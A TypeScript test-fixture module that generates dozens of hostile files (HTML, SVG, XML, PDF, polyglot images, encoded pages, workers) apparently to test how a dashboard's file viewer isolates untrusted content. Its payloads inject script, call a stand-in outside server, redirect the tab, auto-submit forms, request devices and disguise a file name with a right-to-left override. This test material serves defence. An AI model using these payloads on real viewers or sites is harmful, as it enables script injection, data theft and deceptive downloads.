// Hostile files by the case they belong to, made from small templates around the one script of `evil.ts`.
import { gzipSync } from "node:zlib";
import { attack } from "./evil";

/** A hostile file: its name, and its content with a server of strangers at `outside`. */
export interface Kind {
  name: string;
  content: (outside: string) => string | Buffer;
  /** It takes the tab it is opened in elsewhere, which nothing can refuse; inside the dashboard it stays. */
  isLeaving?: true;
  /** Its script runs in the view, shut in: that it got nothing is proof only where it tried. */
  isRunning?: true;
}

const head = '<meta charset="utf-8"><title>evil</title>';
const html = (body: string, more = "") => `<!doctype html><html><head>${head}${more}</head><body>${body}</body></html>`;
const script = (outside: string) => `<script>${attack(outside)}</script>`;
/** As the value of an attribute in double quotes. */
const quoted = (text: string) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;");
const cdata = (outside: string) => `<script><![CDATA[${attack(outside)}]]></script>`;
const asData = (text: string) => `data:text/html;base64,${Buffer.from(text).toString("base64")}`;

/** A page with the script and something besides, under a name. */
function page(
  name: string,
  body: (outside: string) => string,
  more: { head?: (outside: string) => string; isLeaving?: true } = {},
): Kind {
  return {
    name,
    isRunning: true,
    content: (outside) => html(script(outside) + body(outside), more.head?.(outside)),
    ...(more.isLeaving && { isLeaving: true }),
  };
}

function kind(name: string, content: Kind["content"], isRunning?: true): Kind {
  return { name, content, ...(isRunning && { isRunning }) };
}

const svg = (outside: string, inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="window.__began=true"><rect width="40" height="40"/>${inside}${cdata(outside)}</svg>`;
const xhtml = (outside: string) =>
  `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>evil</title></head><body>${cdata(outside)}</body></html>`;
const pixel = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  "base64",
);

const documents: Kind[] = [
  page("page.html", () => ""),
  page("page.htm", () => ""),
  page("PAGE.HTML", () => ""),
  kind("page.shtml", (outside) => html(script(outside))),
  kind("quirks.html", (outside) => script(outside), true),
  kind("onerror.html", (outside) => html(`<img src="data:," onerror="${quoted(attack(outside))}">`), true),
  kind("onload.html", (outside) => `<!doctype html><head>${head}<body onload="${quoted(attack(outside))}">`, true),
  kind("toggle.html", (outside) => html(`<details open ontoggle="${quoted(attack(outside))}"><p>x</details>`), true),
  kind(
    "module.html",
    (outside) =>
      html(
        `<script type="module">import("data:text/javascript,0").catch(() => 0); import("${outside}/module.js").catch(() => 0);</script>${script(outside)}`,
        `<script type="importmap">{"imports":{"x":"${outside}/mapped.js"}}</script>`,
      ),
    true,
  ),
  kind("eval.html", (outside) => html(`<script>(0, eval)(${JSON.stringify(attack(outside))})</script>`), true),
  page(
    "nested.html",
    (outside) =>
      `<iframe srcdoc="${quoted(script(outside))}"></iframe><iframe src="javascript:parent.parent.document.title"></iframe>`,
  ),
  page("data-frame.html", (outside) => `<iframe src="${asData(script(outside))}"></iframe>`),
  page(
    "blob-frame.html",
    (outside) =>
      `<iframe id="f"></iframe><script>f.src = URL.createObjectURL(new Blob([${JSON.stringify(html(script(outside))).replaceAll("</", "<\\/")}], { type: "text/html" }))</script>`,
  ),
  page("app-frames.html", () => `<iframe src="/"></iframe><iframe src="/api/runs"></iframe><object data="/"></object>`),
  page("embed.html", (outside) => `<embed src="${outside}/embed.swf"><object data="${outside}/object"></object>`),
  page("hints.html", () => "", {
    head: (outside) =>
      ["preload", "prefetch", "dns-prefetch", "preconnect", "modulepreload", "prerender", "icon", "stylesheet"]
        .map((rel) => `<link rel="${rel}" as="image" href="${outside}/${rel}">`)
        .join(""),
  }),
  page(
    "styles.html",
    (outside) =>
      `<style>@import "${outside}/import.css"; body { background: url(${outside}/background.png) } @font-face { font-family: e; src: url(${outside}/font.woff2) } p { font-family: e; list-style-image: url(${outside}/list.png) }</style><p>x`,
  ),
  page(
    "media.html",
    (outside) =>
      `<video autoplay poster="${outside}/poster.png" src="${outside}/video.webm"></video><audio autoplay src="${outside}/audio.ogg"></audio><img srcset="${outside}/set.png 1x"><picture><source srcset="${outside}/source.png"><img src="data:,"></picture>`,
  ),
  page("shadow.html", (outside) => `<div><template shadowrootmode="open">${script(outside)}</template></div>`),
  page("base.html", () => `<img src="base.png"><script src="base.js"></script>`, {
    head: (outside) => `<base href="${outside}/">`,
  }),
  page(
    "speculation.html",
    (outside) =>
      `<script type="speculationrules">{"prefetch":[{"urls":["${outside}/rule","/api/runs"]}],"prerender":[{"urls":["/"]}]}</script>`,
  ),
  kind(
    "big.html",
    (outside) => html(`<script>var filler = "${"x".repeat(10 << 20)}";</script>${script(outside)}`),
    true,
  ),
];

const drawings: Kind[] = [
  kind("drawing.svg", (outside) => svg(outside, `<image href="${outside}/svg.png"/>`)),
  kind("foreign.svg", (outside) =>
    svg(
      outside,
      `<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${outside}/svg.html"></iframe></foreignObject>`,
    ),
  ),
  kind("use.svg", (outside) =>
    svg(outside, `<use href="${outside}/use.svg#x"/><use xlink:href="data:image/svg+xml,x#x"/>`),
  ),
  kind("animate.svg", (outside) =>
    svg(
      outside,
      `<a href="#"><set attributeName="href" to="javascript:window.__began=true"/><animate onbegin="window.__began=true" attributeName="x" dur="1s"/><text>x</text></a>`,
    ),
  ),
  kind("style.svg", (outside) =>
    svg(outside, `<style>@import url(${outside}/svg.css); rect { fill: url(${outside}/fill.svg#x) }</style>`),
  ),
  kind(
    "entity.svg",
    (outside) => `<!DOCTYPE svg [<!ENTITY x SYSTEM "${outside}/entity">]>${svg(outside, "<text>&x;</text>")}`,
  ),
  kind("drawing.svgz", (outside) => gzipSync(svg(outside, ""))),
];

const markups: Kind[] = [
  kind("page.xhtml", xhtml),
  kind("page.xht", xhtml),
  kind("html.xml", xhtml),
  kind("page.xml", () => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="style.xsl"?><evil/>`),
  kind(
    "style.xsl",
    (outside) =>
      `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>${attack(outside).replaceAll("&", "&amp;").replaceAll("<", "&lt;")}</script></body></html></xsl:template></xsl:stylesheet>`,
  ),
  kind(
    "styled.xml",
    (outside) => `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${outside}/style.css"?><evil/>`,
  ),
  kind("external.xml", (outside) => `<?xml version="1.0"?><!DOCTYPE e SYSTEM "${outside}/dtd"><e/>`),
  kind(
    "feed.rss",
    (outside) =>
      `<?xml version="1.0"?><rss version="2.0"><channel><title>x</title><item><description>&lt;script&gt;window.__began=true&lt;/script&gt;</description></item></channel>${cdata(outside).replace("<script", '<script xmlns="http://www.w3.org/1999/xhtml"')}</rss>`,
  ),
  kind(
    "formula.mml",
    () =>
      `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext href="javascript:window.__began=true"><script xmlns="http://www.w3.org/1999/xhtml">window.__began=true</script>x</mtext></math>`,
  ),
  kind(
    "page.mhtml",
    (outside) =>
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html(script(outside))}\r\n--b--\r\n`,
  ),
];

const includable: Kind[] = [
  kind("script.js", attack),
  kind("script.mjs", (outside) => `${attack(outside)}\nexport {};`),
  kind("style.css", (outside) => `@import "${outside}/css"; body { background: url(${outside}/css.png) !important }`),
  kind("module.wasm", () => Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0])),
  kind("callback.json", () => `window.__began=true;//{"a":1}`),
];

const polyglots: Kind[] = [
  kind("nameless", (outside) => html(script(outside))),
  kind("picture.png", (outside) => html(script(outside))),
  kind("both.png", (outside) => Buffer.concat([pixel, Buffer.from(html(script(outside)))])),
  kind("picture.gif", (outside) => Buffer.from(`GIF89a=1;/*\u0000\u0000*/${attack(outside)}`, "latin1")),
  kind("picture.jpg", (outside) =>
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(html(script(outside)))]),
  ),
  kind("picture.bmp", (outside) => `BM=1;${attack(outside)}`),
  kind("sound.wav", (outside) => `RIFF=1;WAVEfmt;${attack(outside)}`),
  kind("film.mp4", (outside) => Buffer.concat([Buffer.from("\0\0\0\x18ftypmp42"), Buffer.from(html(script(outside)))])),
  kind("paper.pdf", pdf),
  kind("page.pdf", (outside) => `${html(script(outside))}\n${pdf(outside)}`),
  kind("notes.txt", (outside) => html(script(outside))),
  kind("data.json", (outside) => JSON.stringify({ html: script(outside) })),
  kind("table.csv", (outside) => `a,b\n"${script(outside).replaceAll('"', '""')}",=HYPERLINK("${outside}/cell")\n`),
  kind("\u202egnp.exe", (outside) => html(script(outside))),
  kind("page.hta", (outside) => html(script(outside))),
];

const encodings: Kind[] = [
  kind(
    "utf7.html",
    (outside) =>
      `<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-7"></head><body>+ADw-script+AD4-${attack(outside)}+ADw-/script+AD4-</body></html>`,
  ),
  kind("utf16.html", (outside) => utf16(html(script(outside)))),
  kind("utf16.txt", (outside) => utf16(html(script(outside)))),
  kind("utf16be.txt", (outside) => utf16(html(script(outside))).swap16()),
  kind("utf7.txt", (outside) => `+/v8-+ADw-script+AD4-${attack(outside)}+ADw-/script+AD4-`),
  kind("japanese.txt", (outside) => `\u001b$B${html(script(outside))}\u001b(B`),
];

const workers: Kind[] = [
  page(
    "worker.html",
    (outside) =>
      `<script>try{new Worker(URL.createObjectURL(new Blob(["fetch('${outside}/worker');fetch('"+location.protocol+'//'+location.host+"/api/runs');importScripts('${outside}/import.js')"])))}catch(e){}</script>`,
  ),
  page(
    "worker-file.html",
    () => `<script>try{new Worker("sw.js")}catch(e){} try{new SharedWorker("sw.js")}catch(e){}</script>`,
  ),
  page(
    "worklet.html",
    (outside) => `<script>try{CSS.paintWorklet.addModule("${outside}/paint.js")}catch(e){}</script>`,
  ),
  page("manifest.html", () => "", { head: (outside) => `<link rel="manifest" href="${outside}/manifest.json">` }),
  kind(
    "sw.js",
    () =>
      `self.onfetch = function (event) { event.respondWith(new Response("owned")); }; self.onconnect = function (event) { event.ports[0].postMessage("started"); };`,
  ),
];

const messengers: Kind[] = [
  page(
    "flood.html",
    (outside) =>
      `<script>for (var i = 0; i < 300; i++) { var m = { type: "navigate", to: "${outside}/flood", event: "sync", i: i }; parent.postMessage(m, "*"); top.postMessage(JSON.stringify(m), "*"); if (opener) opener.postMessage(m, "*"); }</script>`,
  ),
  page(
    "name.html",
    () =>
      `<script>window.name = "evil"; if (opener) opener.name = "evil"; try { parent.name = "evil" } catch (e) {} try { top.frames[0].name } catch (e) {}</script>`,
  ),
  page(
    "history.html",
    () =>
      `<script>for (var i = 0; i < 50; i++) { try { history.pushState({}, "", "#" + i) } catch (e) {} location.hash = i; } try { history.replaceState({}, "", "/api/runs") } catch (e) {}</script>`,
  ),
  page(
    "channel.html",
    () =>
      `<script>try { new BroadcastChannel("greenroom").postMessage("evil") } catch (e) {} try { dispatchEvent(new StorageEvent("storage", { key: "greenroom.theme", newValue: "dark" })) } catch (e) {}</script>`,
  ),
];

const movers: Kind[] = [
  page("refresh.html", () => "", {
    head: (outside) => `<meta http-equiv="refresh" content="0;url=${outside}/refresh">`,
    isLeaving: true,
  }),
  page("location.html", (outside) => `<script>location.replace("${outside}/location")</script>`, { isLeaving: true }),
  page("link.html", (outside) => `<a id="a" href="${outside}/link">x</a><script>a.click()</script>`, {
    isLeaving: true,
  }),
  page(
    "top.html",
    (outside) =>
      `<a id="a" target="_top" href="${outside}/a-top">x</a><a id="b" target="_parent" href="${outside}/a-parent">x</a><script>if (top !== self) { a.click(); b.click(); try { top.location = "${outside}/top" } catch (e) {} try { parent.location.replace("javascript:window.__began=true") } catch (e) {} }</script>`,
  ),
  page("ping.html", (outside) => `<a id="a" href="#x" ping="${outside}/ping">x</a><script>a.click()</script>`),
  page(
    "form.html",
    () =>
      `<form id="f" method="post" action="/api/refresh"><input name="x" value="1"></form><script>f.submit()</script>`,
  ),
  page(
    "button.html",
    (outside) =>
      `<form method="post" action="${outside}/form"><button id="b" formtarget="_top">x</button></form><script>b.click()</script>`,
  ),
  kind("get-form.html", (outside) =>
    html(
      `${script(outside)}<form id="f" action="${outside}/get-form"><input name="x"></form><script>f.submit()</script>`,
    ),
  ),
  page(
    "popup.html",
    (outside) =>
      `<script>try { var w = window.open("/"); window.__loot.popup = w ? "got " + (function () { try { return w.document.title; } catch (e) { return "nothing"; } })() : "refused: no window"; } catch (e) { window.__loot.popup = "refused: " + e.name; } window.open("${outside}/popup");</script>`,
  ),
  page(
    "download.html",
    () => `<a id="a" download="invoice.exe" href="data:application/octet-stream,evil">x</a><script>a.click()</script>`,
  ),
  page(
    "dialogs.html",
    () => `<script>alert(1); confirm(2); prompt(3); onbeforeunload = function () { return "stay" };</script>`,
  ),
  page(
    "devices.html",
    () =>
      `<video id="v" autoplay></video><script>[function () { return document.documentElement.requestFullscreen() }, function () { return document.body.requestPointerLock() }, function () { return navigator.usb.requestDevice({ filters: [] }) }, function () { return navigator.mediaDevices.getUserMedia({ video: true, audio: true }) }, function () { return navigator.mediaDevices.getDisplayMedia() }, function () { return Notification.requestPermission() }, function () { return navigator.wakeLock.request() }, function () { return navigator.clipboard.writeText("evil") }, function () { return navigator.share({ url: "/" }) }, function () { return v.requestPictureInPicture() }, function () { return new PaymentRequest([{ supportedMethods: "x" }], {}).show() }].forEach(function (act, at) { try { var made = act(); if (made && made.then) made.then(function (got) { if (got !== "denied") window.__loot["device" + at] = "got it" }, function () {}) } catch (e) {} })</script>`,
  ),
  page("protocol.html", () => `<iframe src="mailto:x@example.org"></iframe><iframe src="file:///etc/passwd"></iframe>`),
  page("csp.html", () => "", {
    head: (outside) =>
      `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval' data: blob:; report-uri ${outside}/report"><meta http-equiv="set-cookie" content="evil=1"><meta name="referrer" content="unsafe-url">`,
  }),
];

const texts: Kind[] = [
  kind(
    "readme.md",
    (outside) =>
      `# Evil\n\n${script(outside)}\n\n<img src=x onerror="window.__began=true">\n\n![pixel](${outside}/markdown.png)\n\n[click](javascript:window.__began=true)\n`,
  ),
];

/** Every hostile file, by the case it belongs to. */
export const kinds: Record<string, Kind[]> = {
  W1: documents,
  W2: drawings,
  W3: markups,
  W4: includable,
  W5: polyglots,
  W6: encodings,
  W7: workers,
  W8: messengers,
  W9: movers,
  W10: texts,
};

function utf16(text: string): Buffer {
  return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
}

function pdf(outside: string): string {
  return `%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${outside}/pdf"\\);) >> >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /AA << /O << /S /URI /URI (${outside}/pdf-open) >> >> >> endobj
trailer << /Root 1 0 R >>
%%EOF
`;
}
